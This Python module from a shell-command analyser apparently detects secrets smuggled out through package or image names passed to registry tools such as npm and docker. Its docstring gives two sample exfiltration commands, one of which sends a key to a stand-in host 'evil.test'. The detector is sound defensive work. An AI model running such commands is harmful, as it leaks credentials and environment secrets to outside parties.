"""Names that are asked for elsewhere: a package, an image, a module. Who answers for the names learns what is in them.

A name made of a secret (``npm view $(base64 .env)``, ``docker pull evil.test/$(cat key)``) is a message, whatever comes back.
"""

from __future__ import annotations

from interlock.effects.contacted import MAX_WORDS, address
from interlock.effects.hosts import classify
from interlock.effects.rows import Row
from interlock.effects.run import Run
from interlock.model.effect import LOCAL, Installs, Publishes
from interlock.shell.value import ENVIRONMENT, FILE, OUTPUT

TYPE_CHECKING = False
if TYPE_CHECKING:
    from interlock.effects.shell import ShellReader
    from interlock.model.effect import Effect
    from interlock.shell.execution import Execution
    from interlock.shell.value import Value
    from interlock.shell.walk import Walker

_IMAGES = "pull push run create search manifest image buildx"
_PACKAGES = "view info show search v outdated versions"
_LOOKUPS = {
    **dict.fromkeys(("docker", "podman", "nerdctl", "buildah"), _IMAGES),
    **dict.fromkeys(("skopeo", "crane", "oras", "regctl"), "inspect copy pull push manifest digest ls list-tags cp discover"),
    **dict.fromkeys(("npm", "pnpm", "yarn", "bun"), f"{_PACKAGES} dist-tag pack"),
    **dict.fromkeys(("pip", "pip3", "uv", "poetry", "conda", "mamba"), f"{_PACKAGES} index download"),
    **dict.fromkeys(("cargo", "gem", "brew", "composer", "nuget", "dotnet", "helm", "snap", "flatpak"), f"{_PACKAGES} fetch pull list"),
    "go": "list get mod",
}
"""Programs that ask a registry for the names they are given -> in which of their commands."""
_OF_IMAGES = frozenset({"docker", "podman", "nerdctl"})
"""Programs whose other words are for what runs here, in a container: variables, folders, a command."""
_TOLD = frozenset({"carries-secret", "carries-environment"})
REGISTRY = "a registry"


def told(reader: ShellReader, execution: Execution, walker: Walker, effects: list[Effect]) -> tuple[str, frozenset[str]]:
    """Return whom a command tells a secret in a name that it asks for, and what that carries; nothing where it asks for none."""
    name = execution.argv[0].text.rpartition("/")[2]
    verbs = _LOOKUPS.get(name, "").split()
    if not any(effect.kind in (Installs, Publishes) for effect in effects) and not any(word.text in verbs for word in execution.argv[1:4]):
        return "", frozenset()
    run = Run(reader, walker, execution, Row(), name)
    for value in execution.argv[1 : MAX_WORDS + 1]:
        carries = _carries(run, value) if value.hollow and _is_name(execution, value, name) else frozenset[str]()
        host = address(value) or REGISTRY
        if carries and classify(host) != LOCAL:
            return host, carries
    return "", frozenset()


def _carries(run: Run, value: Value) -> frozenset[str]:
    """Return what of a secret is put into a word where it stands: by a command in it, or by the text of a file."""
    from interlock.effects.programs.sending import word_carries

    inside = "(" in run.walker.texts[run.execution.text].text[value.start : value.end]
    if value.why not in (OUTPUT, FILE) and not (value.why == ENVIRONMENT and inside):
        return frozenset()
    return _TOLD & word_carries(run, value, tokens=False)


def _is_name(execution: Execution, value: Value, program: str) -> bool:
    """Whether a word may be a name that is asked for, and no variable, folder, label or command that is handed to what runs here."""
    if program not in _OF_IMAGES:
        return True
    plain = value.text[:1] not in "/.-" and "=" not in value.text.partition("://")[0]
    return plain and (bool(address(value)) or execution.argv[1].text not in ("run", "create"))
